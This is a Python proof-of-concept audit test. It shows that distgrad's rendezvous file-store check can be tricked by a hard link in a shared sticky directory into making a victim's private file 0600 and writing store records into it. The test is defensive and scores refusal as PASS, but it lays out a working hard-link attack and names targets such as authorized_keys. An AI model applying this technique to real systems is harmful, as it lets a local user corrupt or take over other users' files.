"""PoC: own_store_file (launch/rendezvous.py) accepts an existing store path that
is a hard link to another file of the victim: O_NOFOLLOW stops symbolic links
only, and the checks (regular, owned by this user, not writable by others) all
pass for the victim's own file; st_nlink is never looked at.

Where fs.protected_hardlinks=0 (the Linux sysctl off; macOS and the BSDs have
no such protection) any local user may hard-link a name in a sticky shared
directory (/tmp) to a file they cannot even read. This machine has it on, so
the link is made by root here, standing in for that attacker. The victim (uid
4001) then opens file://DIR/store: own_store_file makes the victim's (here empty) file 0600
and torch's FileStore appends store records to it.
FAIL (defect) when the victim's private file receives store records; PASS when
the store path is refused.
Run (root): PYTHONPATH=/work/wt-audit35 timeout 90 python audit/poc_file_store_hard_link.py
"""
from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
VICTIM = 4001
CODE = r"""
import sys
from distgrad.launch.rendezvous import make_store
try:
    s = make_store("file://" + sys.argv[1], 0, 1, 10.0)
except Exception as e:
    print("REFUSED", type(e).__name__, str(e)[:160]); sys.exit(3)
s.set("DISTGRAD-STORE-RECORD", "x")
print("ACCEPTED", flush=True)
import os; os._exit(0)
"""


def main():
    if os.geteuid() != 0:
        print("SKIP: needs root")
        return 2
    base = tempfile.mkdtemp(prefix="poc-hl-")
    try:
        os.chmod(base, 0o755)
        shared = os.path.join(base, "shared")          # like /tmp: root, 1777
        os.mkdir(shared)
        os.chmod(shared, 0o1777)
        vdir = os.path.join(base, "victim")
        os.mkdir(vdir)
        os.chown(vdir, VICTIM, VICTIM)
        os.chmod(vdir, 0o700)
        precious = os.path.join(vdir, "precious")
        with open(precious, "w"):
            pass   # empty (a fresh log, authorized_keys): torch's FileStore hangs parsing other content
        os.chown(precious, VICTIM, VICTIM)
        os.chmod(precious, 0o640)
        store = os.path.join(shared, "store")
        os.link(precious, store)   # what any user could do with protected_hardlinks=0
        r = subprocess.run(["setpriv", f"--reuid={VICTIM}", f"--regid={VICTIM}", "--clear-groups",
                            "--inh-caps=+dac_read_search", "--ambient-caps=+dac_read_search",
                            sys.executable, "-c", CODE, store],
                           env={"PATH": "/usr/bin:/bin", "HOME": "/tmp", "PYTHONPATH": REPO,
                                "DISTGRAD_PURE": "1", "OMP_NUM_THREADS": "1"},
                           capture_output=True, text=True, timeout=45)
        after = open(precious, "rb").read()
        print("victim:", r.stdout.strip(), r.stderr.strip()[-300:])
        print("precious after:", repr(after[:120]),
              f"mode {os.stat(precious).st_mode & 0o777:o} (was 640)")
        if b"DISTGRAD-STORE-RECORD" in after:
            print("FAIL: a hard link to the victim's private file was accepted as the file:// "
                  "store (no st_nlink check in own_store_file); store records appended to it")
            return 1
        print("PASS: refused")
        return 0
    finally:
        shutil.rmtree(base, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
